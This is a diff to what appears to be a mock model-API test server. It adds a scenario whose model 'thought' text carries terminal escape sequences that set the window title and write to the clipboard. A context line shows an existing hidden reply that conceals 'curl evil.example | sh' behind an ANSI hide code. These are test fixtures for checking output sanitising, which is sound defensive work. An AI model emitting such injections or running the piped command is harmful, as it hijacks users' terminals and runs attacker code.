@@ -379,6 +379,11 @@ class Handler(BaseHTTPRequestHandler):
             events = [event(echo_reply(request))]
         elif scenario == "metered":
             events = [event(text_chunk("Metered ")), event(text_chunk("reply.", "STOP", METERED_USAGE))]
+        elif scenario == "thinking-escape":
+            # A thought whose heading would set the window title and write the clipboard.
+            evil = "**Plan \x1b]0;pwned\x07 \x1b]52;c;ZXZpbA==\x07\r now** more"
+            events = [event({"candidates": [{"content": {"parts": [{"text": evil, "thought": True}], "role": "model"}}]}),
+                      event(text_chunk("Safe answer.", "STOP"))]
         elif scenario in TOOL_REPLIES:
             events = [event(e) for e in tool_reply(scenario, request)]
         elif scenario == "signed":
@@ -824,7 +829,7 @@ HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u2
 SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
-             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed", "metered", "no-tools", "schema-refused"} | TOOL_REPLIES | set(HOSTILE)
+             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed", "metered", "no-tools", "schema-refused", "thinking-escape"} | TOOL_REPLIES | set(HOSTILE)
 
 
 def main():
